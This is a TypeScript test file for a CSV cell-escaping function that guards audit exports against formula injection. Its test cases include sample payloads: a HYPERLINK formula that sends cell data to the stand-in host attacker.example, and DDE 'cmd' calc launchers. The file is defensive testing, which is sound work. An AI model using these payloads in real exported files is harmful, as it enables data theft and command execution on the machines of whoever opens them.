import { csvCell } from '../../../../../src/interface/http/admin/audit-output';

/** A spreadsheet's view of one cell of RFC 4180 text: quotes removed, doubled quotes undone. */
const unquoted = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('CSV cells (OWASP CSV injection)', () => {
  it.each([
    ['=', '=HYPERLINK("http://attacker.example/?"&A1,"x")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', "-1+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['NUL', '\u0000=1+1'],
  ])('a text cell starting with %s gets a single quote in front and is quoted', (_, text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.endsWith('"')).toBe(true);
    expect(unquoted(cell)).toBe(`'${text}`);
  });

  it('guards a text cell that is a negative number too: only number columns keep numbers', () => {
    expect(csvCell('-5')).toBe(`"'-5"`);
    expect(csvCell('+5')).toBe(`"'+5"`);
  });

  it('leaves plain decimals of the number columns as numbers, and guards anything else there', () => {
    expect(csvCell('-120.00', true)).toBe('-120.00');
    expect(csvCell('880.00', true)).toBe('880.00');
    expect(csvCell(42, true)).toBe('42');
    expect(csvCell("-1+cmd|' /C calc'!A0", true)).toBe(`"'-1+cmd|' /C calc'!A0"`);
    expect(csvCell('-1e5', true)).toBe(`"'-1e5"`);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says, and leaves other text alone', () => {
    expect(csvCell('wire, "March"')).toBe('"wire, ""March"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('inv-2026-0001')).toBe('inv-2026-0001');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
  });

  it('a guarded cell with quotes inside stays one cell', () => {
    expect(csvCell('=A1&"x",B2')).toBe(`"'=A1&""x"",B2"`);
  });
});
